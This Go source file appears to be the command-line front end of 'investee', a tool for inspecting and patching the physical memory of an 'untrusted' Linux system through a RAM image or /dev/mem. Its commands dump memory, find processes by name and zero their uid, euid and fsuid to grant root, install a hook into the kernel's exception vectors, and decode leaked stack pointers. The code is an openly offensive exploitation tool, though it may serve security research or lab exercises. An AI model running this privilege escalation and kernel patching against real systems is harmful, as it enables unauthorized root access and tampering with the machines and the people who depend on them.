package main

import (
	"errors"
	"flag"
	"fmt"
	"io"
	"log"
	"os"
	"strconv"

	"github.com/fatih/color"
	"gitlab.com/stephen-fox/investee/asmkit"
	"gitlab.com/stephen-fox/investee/command"
	"gitlab.com/stephen-fox/investee/hook"
	"gitlab.com/stephen-fox/investee/memory"
	"gitlab.com/stephen-fox/investee/procscan"
	"gitlab.com/stephen-fox/investee/scripting"
)

const (
	dumpCmd       = "dump"
	searchCmd     = "search"
	hookCmd       = "hook"
	logSyscallCmd = "logsyscall"
	invokeCmd     = "invoke"

	appName = "investee"
	usage   = appName + `

DESCRIPTION
  Inspect and patch the memory of an untrusted system given only
  physical memory access. The memory is either a raw RAM image,
  loaded into memory or mapped, or /dev/mem.

  Board and kernel specific numbers come from a profile. A built-in
  profile describes the QEMU virt board running Linux 5.15. Other
  profiles can be loaded from a JSON file.

USAGE
  ` + appName + ` [options] image|snapshot FILE COMMAND [ARGUMENTS]
  ` + appName + ` [options] devmem COMMAND [ARGUMENTS]

COMMANDS
  ` + dumpCmd + ` PA SIZE
    Print SIZE bytes starting at physical address PA as 64-bit words.
  ` + searchCmd + ` NAME
    Find processes named NAME and zero their uid, euid and fsuid.
  ` + hookCmd + `
    Install the exception vector hook in the kernel code.
  ` + logSyscallCmd + ` -sp VA -ttbr VALUE
    Translate a leaked stack pointer and print the stack frame.
  ` + invokeCmd + ` ID [ARGUMENTS]
    Invoke the command with the given hex ID. ARGUMENTS are those of
    the named command.

EXAMPLES
  Dump the first 64 bytes of the kernel's RAM from a snapshot:
    $ ` + appName + ` snapshot ram.bin ` + dumpCmd + ` 0x40000000 64

  Patch the credentials of every "sh" process through /dev/mem:
    $ ` + appName + ` devmem ` + searchCmd + ` sh

OPTIONS
`
)

var (
	colorAddr    = color.New(color.Faint).SprintFunc()
	colorGood    = color.New(color.FgHiGreen).SprintFunc()
	colorWarn    = color.New(color.FgYellow).SprintFunc()
	colorBad     = color.New(color.Bold, color.FgHiRed).SprintFunc()
	colorHeading = color.New(color.Bold, color.FgHiBlue).SprintFunc()
)

func main() {
	log.SetFlags(0)

	err := mainWithError()
	if err != nil {
		log.Fatalln("fatal:", err)
	}
}

func mainWithError() error {
	flagSet := flag.CommandLine

	help := flagSet.Bool("h", false, "Display this information")

	flagSet.Usage = func() {
		os.Stderr.WriteString(usage)
		flagSet.PrintDefaults()
	}

	target, err := scripting.ParseTargetArgsWithError(scripting.ParseTargetArgsConfig{
		OptFlagSet: flagSet,
	})
	if *help {
		flagSet.Usage()
		os.Exit(1)
	}
	if err != nil {
		return err
	}
	defer target.Close()

	target.Stages.Next("parse command")

	id, params, leaks, err := parseCommand(target.Rest)
	if err != nil {
		return err
	}

	// The service's own report duplicates what report prints,
	// so it is only shown in verbose mode.
	reporter := target.Verbose
	if reporter == nil {
		reporter = log.New(io.Discard, "", 0)
	}

	service, err := command.NewService(command.ServiceConfig{
		Mem:      target.Mem,
		Profile:  target.Profile,
		OptLeaks: leaks,
		Reporter: reporter,
		Verbose:  target.Verbose,
	})
	if err != nil {
		return err
	}

	target.Stages.Next(fmt.Sprintf("invoke %s using profile %q", id, target.Context))

	result := service.Invoke(id, params)

	target.Stages.Next("report")

	err = report(os.Stdout, result)
	if err != nil {
		return err
	}

	target.Stages.Done()

	if result.Status != command.StatusSuccess {
		return fmt.Errorf("%s failed with %s (origin: %s) - %w",
			id, result.Status, result.Origin, result.Err)
	}

	return nil
}

func parseCommand(args []string) (command.ID, command.Params, command.LeakSource, error) {
	if len(args) == 0 {
		return 0, command.Params{}, nil, errors.New("please specify a command")
	}

	var id command.ID

	name := args[0]
	args = args[1:]

	switch name {
	case dumpCmd:
		id = command.DumpMemory
	case searchCmd:
		id = command.SearchProcess
	case hookCmd:
		id = command.HookVbar
	case logSyscallCmd:
		id = command.LogSyscall
	case invokeCmd:
		if len(args) == 0 {
			return 0, command.Params{}, nil, errors.New("please specify the command id")
		}

		raw, err := strconv.ParseUint(args[0], 16, 32)
		if err != nil {
			return 0, command.Params{}, nil, fmt.Errorf("failed to parse command id - %w", err)
		}

		id = command.ID(raw)
		args = args[1:]
	default:
		return 0, command.Params{}, nil, fmt.Errorf("unknown command: %q", name)
	}

	var params command.Params
	var leaks command.LeakSource

	switch id {
	case command.DumpMemory:
		if len(args) != 2 {
			return 0, params, nil, fmt.Errorf("%s requires a physical address and a size", dumpCmd)
		}

		addr, err := memory.ParsePhysAddr(args[0])
		if err != nil {
			return 0, params, nil, fmt.Errorf("failed to parse address - %w", err)
		}

		size, err := strconv.ParseUint(args[1], 0, 64)
		if err != nil {
			return 0, params, nil, fmt.Errorf("failed to parse size - %w", err)
		}

		params.Addr = addr
		params.Size = size
	case command.SearchProcess:
		if len(args) != 1 {
			return 0, params, nil, fmt.Errorf("%s requires a process name", searchCmd)
		}

		params.Name = args[0]
	case command.LogSyscall:
		static, err := parseLeaks(args)
		if err != nil {
			return 0, params, nil, err
		}

		leaks = static
	}

	return id, params, leaks, nil
}

func parseLeaks(args []string) (command.StaticLeaks, error) {
	flagSet := flag.NewFlagSet(logSyscallCmd, flag.ContinueOnError)

	sp := flagSet.String("sp", "", "The leaked stack pointer `VA` (DBGBVR0_EL1)")
	ttbr := flagSet.String("ttbr", "", "The leaked TTBR1_EL1 `value` (DBGBVR1_EL1)")

	err := flagSet.Parse(args)
	if err != nil {
		return command.StaticLeaks{}, err
	}

	if *sp == "" || *ttbr == "" {
		return command.StaticLeaks{}, fmt.Errorf("%s requires both -sp and -ttbr", logSyscallCmd)
	}

	var leaks command.StaticLeaks

	leaks.SP, err = memory.ParseVirtAddr(*sp)
	if err != nil {
		return command.StaticLeaks{}, fmt.Errorf("failed to parse stack pointer - %w", err)
	}

	leaks.TTBR, err = memory.ParseHexUint64(*ttbr)
	if err != nil {
		return command.StaticLeaks{}, fmt.Errorf("failed to parse ttbr - %w", err)
	}

	return leaks, nil
}

func report(w io.Writer, result command.Result) error {
	switch {
	case result.Words != nil:
		for _, word := range result.Words {
			if word.Failed {
				fmt.Fprintf(w, "%s: %s\n", colorAddr(word.Addr), colorBad("unreadable"))
				continue
			}

			fmt.Fprintf(w, "%s: hex: %016x, str: %q\n",
				colorAddr(word.Addr), word.Value, memory.Printable(word.Value))
		}
	case result.Search != nil:
		reportSearch(w, *result.Search)
	case result.Hook != nil:
		return reportHook(w, *result.Hook)
	case result.Frame != nil:
		fmt.Fprintln(w, result.Frame.String())
	}

	return nil
}

func reportSearch(w io.Writer, search procscan.Report) {
	fmt.Fprintf(w, "%s %d of %d matches patched\n",
		colorHeading("search:"), search.PatchCount, len(search.Matches))

	if search.UnreadablePages > 0 {
		fmt.Fprintf(w, "%s %d pages could not be read\n",
			colorWarn("warning:"), search.UnreadablePages)
	}

	for _, match := range search.Matches {
		var verdict string

		switch match.Verdict {
		case procscan.VerdictPatched:
			verdict = colorGood(match.Verdict)
		case procscan.VerdictPointerRejected, procscan.VerdictUIDRejected:
			verdict = colorWarn(match.Verdict)
		default:
			verdict = colorBad(match.Verdict)
		}

		fmt.Fprintf(w, "  %s cred: %s uid: %d euid: %d fsuid: %d %s (%s)\n",
			colorAddr(match.Name), match.Cred, match.UID, match.EUID, match.FSUID,
			verdict, match.Rationale)
	}
}

func reportHook(w io.Writer, result hook.Result) error {
	if !result.Found {
		fmt.Fprintf(w, "%s signature not found, nothing was written\n", colorHeading("hook:"))
		return nil
	}

	fmt.Fprintf(w, "%s installed at %s\n", colorHeading("hook:"), colorGood(result.Site))
	fmt.Fprintf(w, "  policy: %s (%s)\n", result.Policy.Rule, result.Policy.Rationale)

	for _, discarded := range result.Policy.Discarded {
		fmt.Fprintf(w, "  discarded: %s\n", colorWarn(discarded))
	}

	if result.UnreadablePages > 0 {
		fmt.Fprintf(w, "%s %d code pages could not be read\n",
			colorWarn("warning:"), result.UnreadablePages)
	}

	d, err := asmkit.NewDisassembler(asmkit.DisassemblerConfig{
		Syntax: asmkit.GNUSyntax,
	})
	if err != nil {
		return err
	}

	layout := result.Payload.Layout

	blocks := []struct {
		slot  uint32
		block hook.Block
	}{
		{slot: layout.TrampolineSlot, block: result.Payload.First},
		{slot: layout.SecondBlockSlot, block: result.Payload.Second},
	}

	for _, b := range blocks {
		fmt.Fprintf(w, "  slot 0x%x:\n", b.slot)

		err := d.All(b.block.Bytes(), func(inst asmkit.Inst) error {
			fmt.Fprintf(w, "    %s  %s\n", colorAddr(inst.Word), inst.Dis)
			return nil
		})
		if err != nil {
			return fmt.Errorf("failed to disassemble payload - %w", err)
		}
	}

	return nil
}
